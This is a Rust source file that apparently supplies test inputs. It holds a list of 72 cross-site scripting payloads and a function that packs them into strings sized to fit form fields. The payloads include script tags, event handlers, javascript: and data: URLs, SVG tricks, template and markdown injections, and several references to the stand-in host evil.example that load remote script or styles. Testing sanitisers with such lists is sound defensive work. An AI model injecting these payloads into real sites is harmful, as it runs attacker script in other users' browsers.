//! Text that means harm: what people have put into fields to have it run in the browser of somebody else.

/// One way each. None of them needs another to work.
pub const SCRIPTS: [&str; 72] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "x onload=alert(1)",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java&#115;cript:alert(1)\">x</a>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style>@import'//evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<table><td background=javascript:alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<p onclick=alert(1)>press</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "{{constructor.constructor('alert(1)')()}}",
    "{{{this}}} {{> partials/tag}} ${alert(1)}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/ \"onmouseover=alert(1)\")",
    "[x](https://evil.example/\"onmouseover=\"alert(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/x.png\"onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "**<img src=x onerror=alert(1)>**",
];

/// All of them in as few texts as fit into a field of so many characters, a line each where the field takes lines.
pub fn packed(most: usize, between: &str) -> Vec<String> {
    let mut texts: Vec<String> = Vec::new();
    for script in SCRIPTS {
        let script = if between.contains('\n') { script.to_owned() } else { script.replace(['\n', '\t'], " ") };
        if script.chars().count() > most {
            continue;
        }
        match texts.last_mut() {
            Some(text) if text.chars().count() + between.len() + script.chars().count() <= most => {
                text.push_str(between);
                text.push_str(&script);
            }
            _ => texts.push(script),
        }
    }
    texts
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_is_left_out_of_a_field_of_a_hundred() {
        let texts = packed(100, " ");
        assert!(texts.iter().all(|text| text.chars().count() <= 100));
        let all = texts.join(" ");
        for script in SCRIPTS {
            assert!(all.contains(&script.replace(['\n', '\t'], " ")), "{script}");
        }
        assert_eq!(packed(10_000, "\n\n").len(), 1);
    }
}
